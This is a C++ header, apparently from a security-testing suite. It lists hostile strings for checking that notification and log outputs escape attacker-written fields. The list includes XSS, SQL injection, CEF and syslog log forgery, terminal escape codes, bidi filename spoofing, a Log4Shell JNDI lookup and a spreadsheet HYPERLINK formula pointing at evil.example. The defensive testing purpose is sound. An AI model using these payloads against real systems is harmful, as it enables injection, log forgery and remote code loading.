#pragma once

#include <string>
#include <vector>

namespace picket::outputs {

// What strangers write into the fields of events, for every receiver that Picket has.
inline const std::vector<std::string>& HostileTexts() {
  static const std::vector<std::string> texts = {
      "<!channel> <@U123> <!here|x> <https://evil.example|Sign in>",
      "[Sign in](https://evil.example) ![x](http://evil.example/p.png) **bold** _it_ `code`",
      "https://evil.example/login?x=1 http://evil.example",
      "# heading\n- list\n1. one\n> quote\n***",
      "| a | b |\\|x\\\\|=y cs1=spoofed src=6.6.6.6",
      "x\nCEF:0|Evil|Evil|1|1|fake|10|src=6.6.6.6",
      "x\r\n<34>1 2026-01-01T00:00:00Z evil su - - - fake",
      "a\"] [evil@1 x=\"y\\",
      "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
      "abc\u202Etxt.exe\u2066hidden\u2069 zero\u200Bwidth \uFEFFbom",
      "\xff\xfe\xc3(\xe2\x82 broken",
      "<script>alert(1)</script>&lt;img src=x onerror=alert(1)&gt;",
      "{{Column}} ${jndi:ldap://evil.example} %n%s '; drop table x;--",
      "=HYPERLINK(\"http://evil.example\")",
      std::string("nul\0byte", 8),
      std::string(5'000, 'A'),
      "\U0001F600\u0301 ok",
  };
  return texts;
}

}  // namespace picket::outputs
